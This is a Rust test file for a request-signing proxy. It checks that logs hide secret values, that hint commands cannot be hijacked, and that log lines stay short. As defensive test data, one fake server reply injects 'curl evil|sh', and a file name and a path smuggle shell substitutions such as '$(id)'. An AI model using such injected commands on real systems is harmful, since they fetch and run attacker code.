//! The log: what it tells of a request, and what nobody can write into it.
#![cfg(unix)]

use std::io::{Read as _, Write as _};
use std::net::{Shutdown, TcpListener, TcpStream};

use super::relayed::files;
use super::{KEYS, Proxy};
use crate::request::server::{Server, read, reply};

#[test]
fn the_log_tells_names_if_asked_and_values_never() {
    let files = files();
    files.write("keys.toml", KEYS);
    for (details, more) in [(false, &[][..]), (true, &["--log-requests"])] {
        let server = Server::answering(vec![
            reply("200 OK", "", ""),
            reply("401 No", "", "oauth_problem=signature_invalid"),
        ]);
        let upstream = server.url("");
        let keys = ["--keys", "keys.toml", "--upstream", &upstream];
        let proxy = Proxy::start(files.path(), &[&keys[..], more].concat());
        let form = "Content-Type: application/x-www-form-urlencoded\r\nX-Api-Key: canary-1\r\n";
        for _ in 0..2 {
            proxy.ask("POST /a?api_key=canary-2&canary-3", form, "pin=canary-4");
        }
        let log = proxy.stop();
        let lines: Vec<serde_json::Value> = log
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect();
        assert_eq!(lines.len(), 2, "{log}");
        let [good, refused] = [&lines[0]["fields"], &lines[1]["fields"]];
        assert_eq!(good["message"], "POST /a");
        assert_eq!(good["status"], 200);
        assert_eq!(refused["status"], 401);
        assert_eq!(refused["problem"], "signature_invalid");
        assert_eq!(refused["hint"], "countersign explain signature_invalid");
        assert_eq!(
            good["parameters"].as_str() == Some("api_key"),
            details,
            "{log}"
        );
        assert_eq!(good["body"].as_i64() == Some(12), details, "{log}");
        let headers = good["headers"].as_str().unwrap_or_default();
        assert_eq!(headers.contains("x-api-key"), details, "{log}");
        server.requests();
    }
}

/// Lines of a log in JSON, what each says.
fn lines(log: &str) -> Vec<serde_json::Value> {
    log.lines()
        .map(|line| {
            let line: serde_json::Value = serde_json::from_str(line).unwrap();
            line["fields"].clone()
        })
        .collect()
}

/// Whoever pastes a hint runs `countersign`, and nothing that a tool or an upstream made up.
#[test]
fn a_hint_is_one_command_whoever_asked() {
    let files = files();
    let keys = "it's $(mine).toml";
    files.write(keys, KEYS);
    let invented = reply("401 No", "", "oauth_problem=x;%20curl%20evil|sh");
    let known = reply("401 No", "", "oauth_problem=invalid_signature");
    let server = Server::answering(vec![invented.clone(), invented, known]);
    let upstream = server.url("");
    let arguments = ["--keys", keys, "--upstream", &upstream];
    let proxy = Proxy::start(files.path(), &arguments);
    proxy.get("/a$(id);'b'");
    proxy.ask("POST /b", "", "");
    proxy.ask("POST /c", "", "");
    let log = proxy.stop();
    let lines = lines(&log);
    let hint = lines[0]["hint"].as_str().unwrap();
    let said = format!("printf '%s\\n' {hint}");
    let split = std::process::Command::new("sh")
        .args(["-c", &said])
        .output()
        .unwrap();
    let words = String::from_utf8(split.stdout).unwrap();
    let url = format!("{upstream}/a$(id);'b'");
    let expected = ["countersign", "request", "--keys", keys, "GET", &url];
    assert_eq!(words.lines().collect::<Vec<_>>(), expected, "{hint}");
    assert!(
        lines[1].get("hint").is_none_or(serde_json::Value::is_null),
        "{log}"
    );
    assert_eq!(lines[1]["problem"], "x; curl evil|sh", "{log}");
    assert_eq!(lines[2]["hint"], "countersign explain signature_invalid");
    server.requests();
}

/// A signed request that is on its way, at the proxy and at its upstream.
fn under_way(proxy: &Proxy, listener: &TcpListener) -> (TcpStream, TcpStream) {
    let mut tool = proxy.connect();
    let fields = proxy.fields();
    let request = format!("POST /a HTTP/1.1\r\n{fields}Content-Length: 3\r\n\r\na=b");
    tool.write_all(request.as_bytes()).unwrap();
    let (mut asked, _) = listener.accept().unwrap();
    assert!(read(&mut asked).ends_with(b"a=b"));
    (tool, asked)
}

/// What was signed and sent is told, even if nobody is left to be answered.
#[test]
fn a_request_whose_answer_nobody_gets_has_its_line() {
    let files = files();
    for (leaves, why) in [
        ("closes", "the tool hung up"),
        ("half closes", "the tool hung up"),
        ("stays", "the proxy ended"),
    ] {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let upstream = format!("http://{}", listener.local_addr().unwrap());
        let proxy = Proxy::to(files.path(), &upstream);
        let (mut tool, mut asked) = under_way(&proxy, &listener);
        match leaves {
            "closes" => drop(tool),
            "half closes" => {
                tool.shutdown(Shutdown::Write).unwrap();
                let mut nothing = Vec::new();
                tool.read_to_end(&mut nothing).unwrap();
                assert_eq!(nothing, b"");
            }
            _ => {
                proxy.signal("-TERM");
                proxy.listens_no_more();
                std::thread::sleep(core::time::Duration::from_millis(700));
                proxy.signal("-TERM");
                let _cut_off = tool.read_to_end(&mut Vec::new());
            }
        }
        // The upstream is not waited for either.
        let _cut_off = asked.read_to_end(&mut Vec::new());
        let log = match leaves {
            "stays" => proxy.ended().1,
            _ => proxy.stop(),
        };
        let line = &lines(&log)[0];
        assert_eq!(line["message"], "POST /a", "{leaves}: {log}");
        assert_eq!(line["sent"], 1, "{leaves}: {log}");
        assert_eq!(line["unanswered"], why, "{leaves}: {log}");
    }
}

/// Whoever has no token at all can't fill the disk with a few requests.
#[test]
fn a_line_is_short_whatever_is_asked() {
    let files = files();
    let server = Server::answering(vec![reply("401 No", "", "oauth_problem=signature_invalid")]);
    let proxy = Proxy::to(files.path(), &server.url(""));
    let path = format!("/{}", "\u{e9}".repeat(6_000));
    let answer = proxy.send(format!(
        "GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    ));
    assert_eq!(answer.status, 401);
    let answer = proxy.get(&format!("/{}", "a".repeat(12_000)));
    assert!(answer.body.contains("signature_invalid"), "{answer:?}");
    let log = proxy.stop();
    assert_eq!(log.lines().count(), 2, "{log}");
    for line in log.lines() {
        assert!(line.len() < 2048, "{}", line.len());
    }
    // No command for a part of the address.
    assert_eq!(
        lines(&log)[1]["hint"],
        "countersign explain signature_invalid"
    );
    server.requests();
}
